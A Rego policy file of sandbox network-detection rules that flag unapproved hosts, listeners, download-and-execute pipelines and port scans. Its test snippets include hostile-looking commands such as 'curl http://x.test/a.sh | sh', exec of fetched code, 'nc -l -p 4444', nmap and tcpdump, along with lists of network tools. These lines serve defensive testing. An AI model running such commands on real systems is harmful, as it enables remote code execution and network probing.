# METADATA
# scope: package
# title: Rules about network
package caisson.rules.network

# METADATA
# title: Reaches a host that is not on the allow list
# custom:
#   id: SBX-NET-0001
#   severity: high
#   category: network
#   cwe: ["CWE-918"]
#   attack: ["T1071", "T1105"]
#   remediation: "Ask for the host to be allowed (data/hosts.yaml), or bring the data with the run."
#   match:
#     - {"language": "bash", "code": "curl https://x.test/"}
#     - {"language": "python", "code": "import requests\nrequests.get('https://x.test/a')"}
#     - {"language": "javascript", "code": "fetch('https://x.test')"}
#     - {"language": "python", "code": "import socket\ns=socket.socket()\ns.connect(('10.0.0.1',80))"}
#     - {"language": "python", "code": "import sys, requests\nrequests.get('http://127.0.0.1:' + sys.stdin.readline())"}
#     - {"language": "bash", "code": "git clone --depth 1 https://x.test/a"}
#   not_match:
#     - {"language": "bash", "code": "echo https://x.test"}
#     - {"language": "bash", "code": "curl http://localhost:8080/health"}
#     - {"language": "python", "code": "u='https://x.test'"}
findings contains {"id": "SBX-NET-0001", "at": n.at, "msg": sprintf("%s %s (%s) by %s", [n.op, host(n), n.class, n.by])} if {
	some class in data.settings.foreign_hosts
	some op
	op != "listen"
	some n in input.net[class][op]
	not at_home(n)
}

# at_home: a service of the sandbox itself is asked, and no file is given to it.
at_home(n) if {
	n.class == "loopback"
	n.op in {"connect", "request", "download", "upload", "resolve"}
	every from in n.carries {
		not startswith(from, "file:")
	}
}

# METADATA
# title: Talks to a service of its own machine
# custom:
#   id: SBX-NET-0009
#   severity: medium
#   category: network
#   cwe: ["CWE-918"]
#   attack: ["T1071"]
#   remediation: "Use the files of the workspace to exchange data."
#   match:
#     - {"language": "bash", "code": "curl -s http://localhost:8080/health"}
#     - {"language": "python", "code": "import requests\nrequests.post('http://127.0.0.1:8000/a', json={'a': 1})"}
#   not_match:
#     - {"language": "bash", "code": "curl https://x.test/"}
findings contains {"id": "SBX-NET-0009", "at": n.at, "msg": sprintf("%s %s by %s", [n.op, host(n), n.by])} if {
	some op
	some n in input.net.loopback[op]
	at_home(n)
}

host(n) := n.host if n.host != ""

host(n) := sprintf("a host that could not be told %s", [n.url]) if n.host == ""

# METADATA
# title: Waits for connections
# custom:
#   id: SBX-NET-0002
#   severity: high
#   category: network
#   cwe: ["CWE-668"]
#   attack: ["T1571"]
#   remediation: "Use the files of the workspace to exchange data."
#   match:
#     - {"language": "bash", "code": "nc -l -p 4444"}
#     - {"language": "python", "code": "import socket\ns=socket.socket()\ns.bind(('127.0.0.1',4444))\ns.listen()"}
#     - {"language": "python", "code": "import socket\na=socket.socket()\na.bind(('127.0.0.1',0))\ns=socket.socket()\ns.bind(('',80))\ns.listen()"}
#     - {"language": "python", "code": "import socket\ns=socket.socket()\ns.bind(('0.0.0.0',80))"}
#   not_match:
#     - {"language": "python", "code": "x.listen"}
#     - {"language": "python", "code": "import socket\ns=socket.socket()\ns.bind(('127.0.0.1',0))\ns.listen()"}
findings contains {"id": "SBX-NET-0002", "at": n.at, "msg": sprintf("listens on %s port %d by %s", [n.host, n.port, n.by])} if {
	some class, ops in input.net
	class != "unix"
	some n in ops.listen
	not any_port(n)
}

# any_port: the loopback, and whichever port is free: a test, not a service.
any_port(n) if {
	n.class == "loopback"
	n.port == 0
}

findings contains {"id": "SBX-NET-0002", "at": a.at, "msg": sprintf("listens by %s", [a.by])} if {
	some a in input.actions.listen
	not only_itself
	not a.idle
}

# only_itself: all that the program listens on is the loopback, and it says so.
only_itself if {
	some class in {"loopback", "unix"}
	input.net[class].listen
	every class, ops in input.net {
		quiet(class, ops)
	}
}

quiet("loopback", ops) if {
	every n in ops.listen {
		any_port(n)
	}
}

quiet("unix", _)

quiet(class, ops) if {
	not class in {"loopback", "unix"}
	not ops.listen
}

# METADATA
# title: Waits for connections of its own machine
# custom:
#   id: SBX-NET-0008
#   severity: medium
#   category: network
#   cwe: ["CWE-668"]
#   attack: ["T1571"]
#   remediation: "Use the files of the workspace to exchange data."
#   match:
#     - {"language": "python", "code": "import socket\ns=socket.socket()\ns.bind(('127.0.0.1',0))\ns.listen()"}
#   not_match:
#     - {"language": "python", "code": "import socket"}
findings contains {"id": "SBX-NET-0008", "at": n.at, "msg": sprintf("listens on %s port %d by %s", [n.host, n.port, n.by])} if {
	some n in input.net.loopback.listen
}

# METADATA
# title: Downloads and runs
# custom:
#   id: SBX-NET-0003
#   severity: critical
#   category: execution
#   cwe: ["CWE-494"]
#   attack: ["T1105", "T1059"]
#   remediation: "Read what you run: put it into the workspace first."
#   match:
#     - {"language": "bash", "code": "curl http://x.test/a.sh | sh"}
#     - {"language": "bash", "code": "source <(curl -s http://x.test/a.sh)"}
#     - {"language": "python", "code": "import requests\nexec(requests.get('http://x.test/a').text)"}
#     - {"language": "bash", "code": "curl -s http://x.test/a | python3 -m code"}
#   not_match:
#     - {"language": "bash", "code": "cat a | sort"}
#     - {"language": "bash", "code": "curl -s http://x.test/a | python3 -c 'import json, sys; print(json.load(sys.stdin))'"}
#     - {"language": "bash", "code": "curl -s http://x.test/a | python3 -m json.tool"}
findings contains {"id": "SBX-NET-0003", "at": d.at, "msg": sprintf("code that comes from %s is run", [from])} if {
	some kind in {"opaque_code", "opaque_file", "opaque_command", "partial_code", "eval", "dyn_import"}
	some d in input.dynamic[kind]
	some from in d.from
	startswith(from, "net")
}

findings contains {"id": "SBX-NET-0003", "at": p.at, "msg": sprintf("a download is piped into %s", [last])} if {
	some p in input.pipelines
	downloads(p)
	some last in (interpreters & {name | some name in p.names})
	not reads_data(p, last)
}

downloads(p) if {
	some first in p.names
	first in downloaders
}

downloaders := {"curl", "wget", "aria2c", "lynx", "nc", "ncat"}

interpreters := {"sh", "bash", "dash", "ash", "zsh", "ksh", "python", "python3", "node", "perl", "ruby", "php"}

# reads_data: it has its program from elsewhere, and starts no other interpreter,
# which would have the same to read.
reads_data(p, name) if {
	name in fed
	not name in told_by_download
	object.get(p, "depth", 0) >= deepest
}

# fed are interpreters that get what is downloaded.
fed contains name if {
	some name in interpreters
	some c in input.commands[name]
	gets_download(c)
}

gets_download(c) if {
	some from in c.pipe_from
	from in downloaders
}

# told_by_download are those that run it.
told_by_download contains name if {
	some name in interpreters
	some c in input.commands[name]
	gets_download(c)
	not reads_only(name, c)
}

reads_only(name, c) if {
	own_program(name, c)
	not "i" in c.flags
}

deepest := max({0} | {object.get(c, "depth", 0) | some name in interpreters; some c in input.commands[name]})

own_program(name, c) if {
	name in {"node", "perl", "ruby"}
	"e" in c.flags
}

own_program(name, c) if {
	name in {"python", "python3"}
	"c" in c.flags
}

own_program(name, c) if {
	name in {"python", "python3"}
	module := object.get(c.values, "-m", "code")
	not module in {"code", "pdb", "asyncio", "idlelib", "IPython", "ptpython"}
}

own_program(name, c) if {
	name in {"python", "python3", "node", "perl", "ruby", "php"}
	file := c.operands[0]
	regex.match(`^[\w.][\w./-]*$`, file)
	not contains(file, "..")
}

# METADATA
# title: Scans or listens to the network
# custom:
#   id: SBX-NET-0004
#   severity: high
#   category: network
#   cwe: ["CWE-200"]
#   attack: ["T1046", "T1040"]
#   remediation: "Do not probe hosts from a sandbox."
#   match:
#     - {"language": "bash", "code": "nmap 10.0.0.0/8"}
#     - {"language": "bash", "code": "tcpdump -i eth0"}
#     - {"language": "python", "code": "import socket\nsocket.socket(17, 2)"}
#     - {"language": "bash", "code": "for p in {20..90}; do nc -z localhost $p; done"}
#     - {"language": "python", "code": "import socket\nfor p in range(1, 1025):\n    s = socket.socket()\n    if s.connect_ex(('localhost', p)) == 0:\n        print(p)"}
#   not_match:
#     - {"language": "bash", "code": "ls"}
findings contains {"id": "SBX-NET-0004", "at": n.at, "msg": sprintf("%s is scanned by %s", [n.host, n.by])} if {
	some class
	some n in input.net[class].scan
}

# One place that tries one port after the other.
findings contains {"id": "SBX-NET-0004", "at": n.at, "msg": sprintf("one port after the other of %s is tried by %s", [n.host, n.by])} if {
	some n in input.net.loopback.connect
	not n.idle
	[n.by, n.line] in tries_many
}

# tries_many is where more than a few ports are tried.
tries_many contains place if {
	some place in {[n.by, n.line] | some n in input.net.loopback.connect}
	ports := {n.port | some n in input.net.loopback.connect; place == [n.by, n.line]; n.port > 0}
	count(ports) > 7
}

findings contains {"id": "SBX-NET-0004", "at": a.at, "msg": sprintf("%s", [concat(" ", [a.op, a.detail, a.by])])} if {
	some op in ["sniff", "raw_packets"]
	some a in input.actions[op]
}
